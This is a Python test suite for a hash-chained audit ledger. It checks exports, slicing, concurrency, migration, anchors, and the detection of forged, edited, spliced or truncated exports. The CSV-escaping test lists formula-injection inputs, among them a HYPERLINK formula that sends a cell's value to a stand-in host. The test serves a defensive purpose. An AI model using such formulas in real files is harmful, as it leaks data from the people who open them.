"""The audit chain on a real SQLite file and a real PostgreSQL database: every entry takes the
next place in one chain with its hashes, also when several processes append at once; the
migration chains entries written before it; exports (whole, sliced by time or by model) read
a page at a time and verify; an edited, removed, reordered, inserted, spliced or truncated
export fails at the entry that does not match, and an anchor catches a rewritten history."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from alembic import command
from alembic.config import Config
from alembic.script import ScriptDirectory
from sqlalchemy import text

from tests.support.audit import records_of, reseal, verify_text, write
from tests.workflows.test_ledger import MIGRATIONS, activity, run_concurrently, snapshot
from workflows.domain import AuditType
from workflows.ledger import Ledger
from workflows.ledger.chain import GENESIS_HASH, ChainBroken, content_of, seal
from workflows.ledger.export_format import CSV, CSV_COLUMNS, JSONL

AWKWARD = 'line one\nline "two",\r\n=SUM(A1) — ünïcødé 🚀'
REPO = Path(__file__).resolve().parents[2]


async def export_text(ledger: Ledger, fmt: str = JSONL, **filters: Any) -> str:
    return write([record async for record in ledger.audit.export(**filters, page_size=3)], fmt)


async def fill(ledger: Ledger) -> None:
    """Two requests on two models, a comment, an entry of no request: 9 entries."""
    await ledger.requests.record(
        snapshot=snapshot("req-a"),
        entries=[activity("req-a", 0), activity("req-a", 1, roles=["ml-lead", "risk-officer"])],
    )
    await ledger.requests.record(
        snapshot=snapshot("req-b", model="churn"),
        entries=[activity("req-b", 0, model="churn", comment=AWKWARD, from_stage="")],
    )
    await ledger.comments.add(
        comment_id="c1", model="churn", version="7", user_id="bob", text=AWKWARD, now_ms=5
    )
    await ledger.requests.append_entries(
        entries=[
            activity("oob", 0, activity_type=AuditType.SYSTEM_TRANSITION).model_copy(
                update={"request_id": ""}
            )
        ]
    )
    await ledger.requests.record(
        snapshot=snapshot("req-a", revision=1),
        entries=[activity("req-a", 1), activity("req-a", 2), activity("req-a", 3)],
    )
    await ledger.requests.record(
        snapshot=snapshot("req-b", model="churn", revision=1),
        entries=[activity("req-b", 1, model="churn"), activity("req-b", 2, model="churn")],
    )


@pytest.mark.parametrize("fmt", [JSONL, CSV])
async def test_export_round_trip(ledger: Ledger, fmt: str) -> None:
    await fill(ledger)
    exported = await export_text(ledger, fmt)

    verdict = verify_text(exported)
    assert (verdict.entries, verdict.links, verdict.after_seq, verdict.last_seq) == (9, 0, 0, 9)
    head = await ledger.audit.head()
    assert (head.length, head.head_hash) == (9, verdict.last_hash)
    entries = [r for r in records_of(exported) if r["record"] == "entry"]
    assert [int(r["chain_seq"]) for r in entries] == list(range(1, 10))
    assert [r["id"] for r in entries] == [
        "req-a-0", "req-a-1", "req-b-0", "comment-c1", "oob-0", "req-a-2", "req-a-3", "req-b-1",
        "req-b-2",
    ]  # fmt: skip
    # What the trail serves is what the export holds, awkward text included.
    trail = await ledger.requests.audit_trail("churn", "7")
    by_id = {r["id"]: r for r in entries}
    assert by_id["req-b-0"]["comment"] == AWKWARD == by_id["comment-c1"]["comment"]
    assert {e.id for e in trail} <= set(by_id)
    # Written once: appending the same entries again leaves the chain as it was.
    await fill(ledger)
    assert records_of(await export_text(ledger, fmt))[1:] == records_of(exported)[1:]
    assert (await ledger.audit.head()).length == 9


async def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_still_verify(
    ledger: Ledger,
) -> None:
    formulas = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
                "\tx", "'quoted", "''twice"]  # fmt: skip
    await ledger.requests.record(
        snapshot=snapshot("req-f"),
        entries=[activity("req-f", n, comment=text) for n, text in enumerate(formulas)],
    )
    exported = await export_text(ledger, CSV)

    cells = [row[CSV_COLUMNS.index("comment")] for row in csv.reader(io.StringIO(exported))]
    assert cells[2 : 2 + len(formulas)] == ["'" + text for text in formulas]
    assert verify_text(exported).entries == len(formulas)
    entries = [r for r in records_of(exported) if r["record"] == "entry"]
    assert [r["comment"] for r in entries] == formulas


async def test_slices_by_time_and_model_verify(ledger: Ledger) -> None:
    await fill(ledger)
    with ledger.engine.begin() as connection:  # recording times a day apart: 1..9 days
        for seq in range(1, 10):
            connection.execute(
                text("UPDATE activities SET recorded_ms = :t WHERE chain_seq = :s"),
                {"t": seq * 86_400_000, "s": seq},
            )
    # The stored hashes cover recorded_ms: re-chain as the writer would have.
    await rechain(ledger)

    sliced = await export_text(ledger, since_ms=3 * 86_400_000, until_ms=6 * 86_400_000)
    verdict = verify_text(sliced)
    assert (verdict.after_seq, verdict.last_seq, verdict.entries) == (2, 5, 3)
    first = records_of(sliced)[1]
    assert first["prev_hash"] == records_of(sliced)[0]["start_hash"] != GENESIS_HASH

    churn = await export_text(ledger, CSV, models=["churn"])
    verdict = verify_text(churn)
    assert (verdict.entries, verdict.links) == (4, 5)
    links = [r for r in records_of(churn) if r["record"] == "link"]
    assert all("model" not in link and "comment" not in link for link in links)
    assert "fraud-detector" not in churn
    head = await ledger.audit.head()
    assert verify_text(churn, head.head_hash).anchored_at == [9]

    empty = await export_text(ledger, since_ms=10 * 86_400_000)
    assert (verify_text(empty).entries, verify_text(empty).after_seq) == (0, 9)


async def rechain(ledger: Ledger) -> None:
    """Recompute every stored hash from the rows (a test changed recording times)."""
    from workflows.ledger.audit import row_content

    with ledger.engine.begin() as connection:
        rows = connection.execute(text("SELECT * FROM activities ORDER BY chain_seq")).all()
        prev = GENESIS_HASH
        for row in rows:
            digest = seal(row_content(row), prev)
            connection.execute(
                text("UPDATE activities SET prev_hash = :p, entry_hash = :e WHERE id = :i"),
                {"p": prev, "e": digest, "i": row.id},
            )
            prev = digest
        connection.execute(text("UPDATE audit_chain SET head_hash = :h"), {"h": prev})


# -- tampering -------------------------------------------------------------------------------


@pytest.fixture
async def exported(tmp_path: Path) -> list[dict[str, Any]]:
    """The records of a real export of 9 entries (SQLite)."""
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    await ledger.migrate()
    try:
        await fill(ledger)
        return records_of(await export_text(ledger))
    finally:
        ledger.dispose()


def fails(records: list[dict[str, Any]], fmt: str = JSONL, *anchors: str) -> str:
    with pytest.raises(ChainBroken) as caught:
        verify_text(write(records, fmt), *anchors)
    return str(caught.value)


@pytest.mark.parametrize("fmt", [JSONL, CSV])
def test_an_edited_entry_fails_at_that_entry(exported: list[dict[str, Any]], fmt: str) -> None:
    exported[4] = exported[4] | {"user_id": "mallory"}  # entry 4: comment-c1
    message = fails(exported, fmt)
    assert "entry 4 (comment-c1) at line" in message and "edited" in message


def test_a_removed_entry_is_named(exported: list[dict[str, Any]]) -> None:
    del exported[3]  # entry 3
    message = fails(exported)
    assert "entry 4 (comment-c1) at line 4: entry 3 should come before it" in message
    assert "removed" in message


def test_reordered_entries_are_named(exported: list[dict[str, Any]]) -> None:
    exported[3], exported[4] = exported[4], exported[3]
    message = fails(exported)
    assert "entry 4 (comment-c1) at line 4: entry 3 should come before it" in message
    assert "at line 5 (reordered)" in message


def test_an_inserted_entry_is_named(exported: list[dict[str, Any]]) -> None:
    """A forger's entry that hashes and links correctly: the real entry after it no longer
    follows, and the message names the inserted one."""
    forged = dict(exported[3]) | {"id": "forged", "comment": "approved by nobody"}
    forged["entry_hash"] = seal(content_of(forged), forged["prev_hash"])
    exported.insert(3, forged)
    message = fails(exported)
    assert "entry 3 (req-b-0) at line 5" in message
    assert "follows entry 3 (forged) at line 4" in message and "inserted" in message


def test_a_spliced_export_fails_where_the_chains_meet(exported: list[dict[str, Any]]) -> None:
    other = reseal([exported[0], *(r | {"user_id": "eve"} for r in exported[1:])])
    spliced = exported[:5] + other[5:]
    message = fails(spliced)
    assert "entry 5 (oob-0) at line 6: does not follow entry 4 (comment-c1) at line 5" in message


@pytest.mark.parametrize("cut", ["end", "last entry and end", "mid-line"])
def test_a_truncated_export_fails(exported: list[dict[str, Any]], cut: str) -> None:
    text_ = write(exported, JSONL)
    if cut == "end":
        text_ = text_[: text_.rindex('{"record":"end"')]
    elif cut == "last entry and end":
        text_ = write(exported[:-2] + [exported[-1]], JSONL)
    else:
        text_ = text_[: len(text_) - 40]
    with pytest.raises(ChainBroken) as caught:
        verify_text(text_)
    assert "truncated" in str(caught.value) or "unreadable" in str(caught.value)
    if cut == "last entry and end":
        assert "stops at entry 8; its header announced entries up to 9" in str(caught.value)


def test_an_anchor_catches_a_rewritten_consistent_history(exported: list[dict[str, Any]]) -> None:
    anchor = exported[-1]["last_hash"]
    rewritten = reseal(
        [r | {"user_id": "eve"} if r.get("id") == "req-a-1" else r for r in exported]
    )
    assert verify_text(write(rewritten, JSONL)).entries == 9  # consistent on its own
    assert "no entry's hash" in fails(rewritten, JSONL, anchor)
    assert "entry 9 does not have the anchor's hash" in fails(rewritten, CSV, f"9:{anchor}")
    assert verify_text(write(exported, JSONL), f"9:{anchor}").anchored_at == [9]


# -- concurrency, migration, anchors -----------------------------------------------------------


async def test_concurrent_appends_keep_one_chain(ledger_url: str) -> None:
    """Four ledgers (four engines, as in four processes) and a real process append at once,
    with overlapping ids: every entry once, one unbroken chain."""
    writers = [Ledger(ledger_url) for _ in range(4)]
    await writers[0].migrate()
    script = textwrap.dedent(f"""
        import asyncio, sys
        sys.path.insert(0, {str(REPO)!r})
        from workflows.domain import AuditEntry
        from workflows.ledger import Ledger
        async def main():
            ledger = Ledger(sys.argv[1])
            for seq in range(20):
                entry = AuditEntry(
                    id=f"{{sys.argv[2]}}-{{seq}}", request_id=sys.argv[2], seq=seq, model="m",
                    version="1", activity_type="NEW_COMMENT", user_id="u", creation_timestamp=1,
                )
                await ledger.requests.append_entries(entries=[entry])
        asyncio.run(main())
    """)
    processes = [
        subprocess.Popen([sys.executable, "-c", script, ledger_url, f"proc{i}"]) for i in range(1)
    ]

    async def writer(i: int) -> None:
        for seq in range(10):
            entries = [activity(f"w{i}", seq), activity(f"w{(i + 1) % 4}", seq)]
            await writers[i].requests.append_entries(entries=entries)

    try:
        await run_concurrently(4, writer)
        assert [await asyncio.to_thread(p.wait, 60) for p in processes] == [0]
        verdict = verify_text(await export_text(writers[0]))
        assert verdict.entries == 4 * 10 + 20 and verdict.last_seq == 60
    finally:
        for ledger in writers:
            ledger.dispose()


def alembic_config(ledger: Ledger, connection: Any) -> Config:
    config = Config()
    config.set_main_option("script_location", str(MIGRATIONS))
    config.attributes["connection"] = connection
    return config


async def test_migration_backfills_entries_written_before_it(ledger_url: str) -> None:
    before = ScriptDirectory(str(MIGRATIONS)).get_revision("0009").down_revision
    assert isinstance(before, str)
    ledger = Ledger(ledger_url)
    try:
        with ledger.engine.begin() as connection:
            command.upgrade(alembic_config(ledger, connection), before)
        rows = [  # (id, request, seq, created_ms, comment): stored out of order
            ("r2-0", "r2", 0, 2000, None),
            ("r1-1", "r1", 1, 1000, "second"),
            ("r1-0", "r1", 0, 1000, AWKWARD),
            ("c-x", None, 0, 1500, ""),
        ]
        with ledger.engine.begin() as connection:
            for id_, request, seq, created, comment in rows:
                connection.execute(
                    text(
                        "INSERT INTO activities (id, request_id, seq, model_name, version, "
                        "activity_type, user_id, comment, created_ms, updated_ms) VALUES "
                        "(:id, :r, :seq, 'm', '1', 'NEW_COMMENT', 'u', :c, :t, :t)"
                    ),
                    {"id": id_, "r": request, "seq": seq, "c": comment, "t": created},
                )
        await ledger.migrate()
        await ledger.requests.append_entries(entries=[activity("after", 0)])

        records = records_of(await export_text(ledger, CSV))
        verdict = verify_text(write(records, CSV))
        assert verdict.entries == 5
        ids = [r["id"] for r in records if r["record"] == "entry"]
        assert ids == ["r1-0", "r1-1", "c-x", "r2-0", "after-0"]
        assert [e.comment for e in await ledger.requests.audit_trail("m", "1")][:2] == [
            AWKWARD,
            "second",
        ]
    finally:
        ledger.dispose()


async def test_anchors_are_recorded_once_per_head(ledger: Ledger) -> None:
    assert await ledger.audit.anchor(1) is None  # nothing to anchor yet
    await fill(ledger)
    first = await ledger.audit.anchor(2)
    again = await ledger.audit.anchor(3)
    assert first == again and first is not None and first.length == 9
    await ledger.requests.append_entries(entries=[activity("late", 0)])
    later = await ledger.audit.anchor(4)
    assert later is not None and later.length == 10
    assert [a.length for a in await ledger.audit.anchors()] == [10, 9]
    assert verify_text(await export_text(ledger), f"9:{first.head_hash}").anchored_at == [9]


def test_the_readmes_hash_recipe_agrees(exported: list[dict[str, Any]]) -> None:
    """The README's stand-alone recipe computes the hashes Signoff stores."""
    readme = (REPO / "README.md").read_text()
    section = readme[readme.index("## Audit export") :]
    recipe = re.findall(r"```python\n(.*?)```", section, re.DOTALL)[0]
    scope: dict[str, Any] = {}
    exec(recipe, scope)  # noqa: S102 - our own README
    entries = [record for record in exported if record["record"] == "entry"]
    assert [scope["entry_hash"](record) for record in entries] == [
        record["entry_hash"] for record in entries
    ]
